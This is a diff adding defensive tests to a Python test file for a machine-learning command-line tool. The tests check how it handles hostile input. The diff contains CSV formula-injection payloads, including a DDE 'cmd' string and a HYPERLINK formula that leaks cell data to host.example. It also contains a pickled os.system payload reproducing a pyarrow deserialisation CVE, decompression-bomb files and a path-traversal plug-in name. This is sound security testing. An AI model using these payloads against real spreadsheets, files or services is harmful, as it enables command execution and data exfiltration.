@@ -1,5 +1,6 @@
 """Attacks with the content of files: terminal escapes, formulas, huge numbers, deep nesting, files that expand."""
 
+import csv
 import io
 import json
 import shutil
@@ -16,6 +17,7 @@ from orchestrator.report.benchmark import lookup
 from orchestrator.report.tables.best import read_best
 from orchestrator.report.tables.render import frame_to_csv
 from trainables.data import feature_file, features
+from trainables.data.importing.reading import read_table
 from trainables.errors import UserError
 from trainables.federation.saved_model import SavedModel
 
@@ -146,8 +148,21 @@ def test_values_that_no_ledger_has_are_damage(name, results, fedsweep):
 def test_headers_of_csv_files_are_no_formulas():
     import pandas as pd
 
-    text = frame_to_csv(pd.DataFrame({"=1+1": [1], "@x": ["=2"], "a": ["b"]}))
-    assert text.splitlines() == ["'=1+1,'@x,a", "1,'=2,b"]
+    text = frame_to_csv(pd.DataFrame({"=1+1": [1], "@x": ["=2"], "a": ["b"], "label": ["-1"]}))
+    assert text.splitlines() == ["'=1+1,'@x,a,label", "1,'=2,b,-1"]
+
+
+def test_predicted_classes_are_no_formulas(tmp_path, fedsweep):
+    """Names of classes come with the model. Numbers stay as they are, signed ones too."""
+    names = ('=HYPERLINK("http://host.example/?"&A1,"x")', "@SUM(1+1)*cmd|' /C calc'!A0", "-1", "+1\n=2")
+    weights = np.concatenate([10 * np.eye(4, dtype=np.float32).reshape(-1), np.zeros(4, np.float32)])
+    provenance = {"epsilon": {"claimed": 1.0}, "delta": 1e-5}
+    SavedModel(weights, "softmax", 4, 4, provenance, class_names=names).save(tmp_path / "m.npz")
+    np.savez(tmp_path / "x.npz", x_test=np.eye(4, dtype=np.float32))
+    assert fedsweep("predict", tmp_path / "m.npz", tmp_path / "x.npz", "--output", tmp_path / "out.csv")[0] == 0
+    with (tmp_path / "out.csv").open(newline="") as file:
+        written = [cell for (cell,) in csv.reader(file)]
+    assert written == ["class", f"'{names[0]}", f"'{names[1]}", "-1", "'+1 =2"]
 
 
 # ---- other files
@@ -190,6 +205,95 @@ def test_a_feature_file_that_expands_without_measure_is_refused(tmp_path, monkey
     archive(tmp_path / "f.npz", "x_train", np.random.default_rng(0).random((1000, 50), np.float32),
             **{**others, "y_train": labels[:1000]})  # fmt: skip
     assert len(features.load(str(tmp_path / "f.npz")).x_train) == 1000
+
+
+def test_a_table_that_expands_without_measure_is_refused(tmp_path, monkeypatch):
+    """Repeated values take no space in Parquet, and zeros almost none in an npz archive."""
+    monkeypatch.setattr(feature_file, "EXPANDS_FROM_BYTES", 1 << 20)
+    text = pyarrow.DictionaryArray.from_arrays(pyarrow.array([0] * 20_000), ["x" * 50_000])
+    for name, column in (("many", pyarrow.array([0] * 10_000_000, pyarrow.int8())), ("long", text)):
+        pyarrow.parquet.write_table(pyarrow.table({name: column}), tmp_path / f"{name}.parquet")
+        assert (tmp_path / f"{name}.parquet").stat().st_size < 110_000
+        with pytest.raises(UserError, match="its table expands to"):
+            read_table(str(tmp_path / f"{name}.parquet"))
+    np.savez_compressed(tmp_path / "z.npz", x=np.zeros((100_000, 50), np.float32), y=np.zeros(100_000, np.int64))
+    with pytest.raises(UserError, match=r"x\.npy expands to"):
+        read_table(str(tmp_path / "z.npz"))
+
+
+def npy(dtype, shape):
+    header = f"{{'descr': '{dtype}', 'fortran_order': False, 'shape': {shape}, }}"
+    return b"\x93NUMPY\x01\x00v\x00" + header.ljust(117).encode() + b"\n"
+
+
+HOSTILE_TABLES = {
+    "deep.jsonl": DEEP.encode(),
+    "large.jsonl": b'{"a": ' + b"9" * 4000 + b"}",
+    "very-large.jsonl": f'{{"a": {BIG}}}'.encode(),
+    "nested.jsonl": b'{"a": {"b": 1}}',
+    "empty.parquet": b"",
+    "cut.parquet": b"PAR1" + b"\xff" * 20 + b"\xff\xff\xff\x7fPAR1",
+    "object.npy": npy("|O", "(1,)") + b".",
+    "huge.npy": npy("<f8", "(99999999999999,)"),
+    "wide.svm": b"1 99999999999999:1\n",
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE_TABLES)
+def test_a_hostile_table_is_one_sentence(name, tmp_path, fedsweep):
+    (tmp_path / name).write_bytes(HOSTILE_TABLES[name])
+    code, _, err = fedsweep("data", "import", tmp_path / name, "--label", "a", "--to", tmp_path / "out.npz")
+    assert code == 2, err
+    assert err.count("\n") == 1
+    assert "Traceback" not in err
+
+
+def test_code_in_the_metadata_of_parquet_is_not_executed(tmp_path):
+    """Old versions of pyarrow unpickled the types of columns (CVE-2023-47248)."""
+    planted = tmp_path / "planted"
+    pickled = b"cos\nsystem\n(S'touch " + str(planted).encode() + b"'\ntR."
+    metadata = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": pickled}
+    field = pyarrow.field("a", pyarrow.int64(), metadata=metadata)
+    table = pyarrow.table([pyarrow.array([1, 2])], schema=pyarrow.schema([field]))
+    pyarrow.parquet.write_table(table, tmp_path / "t.parquet")
+    assert read_table(str(tmp_path / "t.parquet"))["a"].tolist() == [1, 2]
+    assert not planted.exists()
+
+
+def model_file(path, weights=None, **changed):
+    """A model whose description is whatever the attacker likes."""
+    about = {"format": 1, "model": "softmax", "features": 4, "classes": 2, "class_names": [], "schema": "",
+             "provenance": {"epsilon": {"claimed": 1.0}, "delta": 1e-5}} | changed  # fmt: skip
+    text = changed["about"] if "about" in changed else json.dumps(about)
+    np.savez(path, weights=np.zeros(10, np.float32) if weights is None else weights, about=text)
+
+
+HOSTILE_MODELS = {
+    "deep": {"about": DEEP},
+    "no JSON": {"about": "{"},
+    "large number": {"about": '{"features": ' + BIG + "}"},
+    "huge": {"features": 10**9, "classes": 10**9},
+    "huge layer": {"model": f"mlp:{10**12}"},
+    "boolean": {"features": True},
+    "other type": {"weights": np.zeros(10)},
+    "names": {"class_names": ["a", 5]},
+    "plug-in": {"model": "../../evil:5"},
+    "escapes": {"model": ESCAPE},
+    "schema": {"schema": DEEP},
+    "wide schema": {"schema": '{"label": "a", "columns": {"features": {"width": 999999999999999}}}'},
+    "URL as a schema": {"schema": "http://host.example/schema.yaml"},
+}
+
+
+@pytest.mark.parametrize("name", HOSTILE_MODELS)
+def test_a_hostile_model_is_one_sentence(name, tmp_path, fedsweep):
+    model_file(tmp_path / "m.npz", **HOSTILE_MODELS[name])
+    (tmp_path / "t.svm").write_text("0 1:1\n1 2:1\n")
+    code, _, err = fedsweep("predict", tmp_path / "m.npz", tmp_path / "t.svm", "--output", tmp_path / "out.csv")
+    assert code == 2, err
+    assert err.count("\n") == 1
+    assert "\x1b" not in err
+    assert not (tmp_path / "out.csv").exists()
 
 
 PROVENANCES = ({}, {"epsilon": 5}, {"epsilon": {"claimed": "x"}, "delta": 1e-5},
